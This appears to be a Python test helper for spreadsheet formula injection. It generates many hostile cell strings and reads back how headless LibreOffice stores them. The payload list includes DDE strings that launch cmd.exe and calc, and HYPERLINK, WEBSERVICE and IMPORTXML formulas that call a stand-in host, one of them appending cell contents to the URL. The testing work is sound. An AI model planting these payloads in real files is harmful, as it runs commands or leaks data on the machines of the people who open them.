"""Texts that a spreadsheet program may run, and what LibreOffice makes of a file that holds them."""

from __future__ import annotations

import random
import shutil
import subprocess
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from xml.etree import ElementTree

STARTS = (
    *("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "  @", "%0A-", ";=", '"=', "'="),
    *("\u200b=", "\ufeff+",
    "\u00a0-", "\u2060@", "\t=", "\n\n=", "Ana,=", "Ana;+", "Ana\t@", "Ana|-", "Ana\n=", '";=', '",=', "=\u200b"),
)  # fmt: skip
ENDS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1)', "SUM(A1:A9)", "IMPORTXML(CONCAT(\"http://x\"),1)",
    'WEBSERVICE("http://x.example")', "DDE(\"cmd\";\"/c calc\";\"x\")", "A1", "2+5+cmd|'/c x'!A", "EXEC(1)",
    'MSEXCEL|\'\\..\\..\\Windows\\System32\\cmd.exe\'!"/c calc"', "INDIRECT(\"A1\")", "{=1+1}", "RAND()", "1,=1+1;=1+1",
)  # fmt: skip
OFFICE = shutil.which("soffice")
NOT_HERE = "LibreOffice is not here (apt-get install --no-install-recommends libreoffice-calc)"
SEPARATORS = {"semicolon": 59, "comma": 44, "tab": 9}
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE_NS = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
PATIENCE = 300.0  # seconds, on a busy machine


def hostile(number: int) -> list[str]:
    """So many of them, no two alike, and the same ones each time."""
    lot = random.Random(7)
    made = dict.fromkeys(start + end for start in STARTS for end in ENDS)
    while len(made) < number:
        made[f"{lot.choice(STARTS)}{lot.choice(ENDS)}{lot.randrange(10**6)}"] = None
    return list(made)[:number]


@dataclass(frozen=True)
class Cell:
    """One cell as the program holds it after opening the file."""

    kind: str  # float, string, date…
    formula: str
    text: str


def opened(file: Path, reading: Sequence[str] = ()) -> list[Cell]:
    """Every cell with something in it, of all sheets, once LibreOffice has read the file and written its own."""
    made = file.with_suffix(".fods")
    profile = f"-env:UserInstallation=file://{file.parent / 'profile'}"
    command = [
        str(OFFICE),
        profile,
        "--headless",
        *reading,
        "--convert-to",
        "fods",
        "--outdir",
        str(file.parent),
        str(file),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=PATIENCE)
    root = ElementTree.parse(made).getroot()  # noqa: S314 - what LibreOffice has just written
    found = [_cell(one) for one in root.iter(f"{TABLE}table-cell")]
    made.unlink()
    return [cell for cell in found if cell.text or cell.formula]


def as_csv(separator: str) -> list[str]:
    """How LibreOffice is told to cut a CSV file: separator, quote, UTF-8; formulas are not guessed away for us."""
    return [f"--infilter=CSV:{SEPARATORS[separator]},34,76,1,,0,false,true,false,false,false,-1,true"]


def _cell(one: ElementTree.Element) -> Cell:
    text = "\n".join("".join(line.itertext()) for line in one.iter(f"{TEXT}p"))
    return Cell(one.get(f"{OFFICE_NS}value-type", ""), one.get(f"{TABLE}formula", ""), text)
